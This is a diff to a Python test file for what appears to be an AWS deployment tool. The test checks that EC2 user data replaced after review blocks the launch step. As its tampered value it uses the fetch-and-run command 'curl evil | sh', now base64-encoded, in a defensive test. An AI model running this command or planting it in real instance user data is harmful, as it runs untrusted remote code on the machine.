@@ -412,11 +412,11 @@ def test_a_role_of_that_name_that_somebody_made_before_is_a_trap_and_blocks(aws:
 
 def test_user_data_that_was_replaced_after_the_review_is_not_sent(aws: Aws) -> None:
     planned(aws, CASE)
-    code, said = apply(aws, CASE, "--step", "image", "--step", "user-data", "--step", "group", "--step", "profile")
+    code, said = apply(aws, CASE, "--step", "image", "--step", "review", "--step", "group", "--step", "profile")
     assert code == 0, said
     ec2 = clients(aws)("ec2")
     ec2.stop_instances(InstanceIds=[aws.victim])
-    ec2.modify_instance_attribute(InstanceId=aws.victim, UserData={"Value": b"curl evil | sh"})
+    ec2.modify_instance_attribute(InstanceId=aws.victim, UserData={"Value": base64.b64encode(b"curl evil | sh")})
     code, said = apply(aws, CASE, "--step", "launch")
     assert code != 0, said
     assert "ec2:RunInstances" in said
